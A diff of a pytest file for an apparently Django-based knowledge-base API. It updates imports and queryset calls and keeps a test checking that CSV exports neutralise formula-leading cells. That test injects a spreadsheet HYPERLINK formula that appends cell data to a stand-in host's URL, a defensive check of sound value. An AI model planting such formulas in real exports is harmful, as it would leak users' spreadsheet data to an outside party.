@@ -8,8 +8,9 @@ import pytest
 from django.apps import apps
 from django.urls import reverse
 
+from kb.core.querysets import PUBLIC
+from kb.delivery.renderers import spreadsheet_safe
 from kb.models import Source
-from kb.renderers import spreadsheet_safe
 from kb.search import index_record
 from tests.helpers import KINDS
 
@@ -27,7 +28,7 @@ def scripted():
     records = {}
     for label in KINDS:
         model = apps.get_model(label)
-        record = model.objects.published().order_by("pk").first()
+        record = model.objects.visible_to(PUBLIC).order_by("pk").first()
         for name in TEXT_FIELDS:
             field = next((f for f in model._meta.concrete_fields if f.name == name), None)
             if field is not None and not field.choices and name != model.url_key:
@@ -96,7 +97,7 @@ def test_the_api_returns_the_text_exactly_as_data(api_client, scripted):
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_csv_cells_a_spreadsheet_would_run_are_neutralised(api_client, start):
     model = apps.get_model("mechanisms.Mechanism")
-    record = model.objects.published().order_by("pk").first()
+    record = model.objects.visible_to(PUBLIC).order_by("pk").first()
     formula = f'{start}HYPERLINK("http://example.org/?"&A1,"open")'
     model.objects.filter(pk=record.pk).update(curator_note=formula, description=f"{start}1+1")
     rows = list(
